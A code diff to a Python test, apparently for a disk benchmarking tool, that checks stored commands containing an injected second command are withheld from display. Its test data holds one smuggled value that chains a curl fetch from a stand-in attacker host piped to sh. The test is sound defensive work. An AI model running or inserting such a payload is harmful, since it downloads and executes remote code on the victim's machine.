@@ -49,6 +49,8 @@ def _assert_one_fio_call(line: str) -> None:
 
 
 def test_an_imported_shell_command_is_not_shown_to_paste(cli, tmp_path) -> None:  # noqa: ANN001
+    from disksleuth.present.bench_view import with_scratch_stand_in
+
     evil = "fio --name=x; curl http://attacker.example/x|sh #"
     shown = _show_commands(cli, tmp_path, {0: evil})
     with open(SAMPLE_RUN) as fh:
@@ -56,8 +58,8 @@ def test_an_imported_shell_command_is_not_shown_to_paste(cli, tmp_path) -> None:
     first = tests[0]["id"]
     assert shown[first] == "(not shown: the stored command is not one fio call)"
     assert not any("curl" in text for text in shown.values())
-    for t in tests[1:]:  # the honest ones are printed as they were recorded
-        assert shown[t["id"]] == t["fio_command"]
+    for t in tests[1:]:  # the honest ones are printed as recorded, but for the removed scratch file (issue 40)
+        assert shown[t["id"]] == with_scratch_stand_in(t["fio_command"])[0]
         _assert_one_fio_call(shown[t["id"]])
 
 
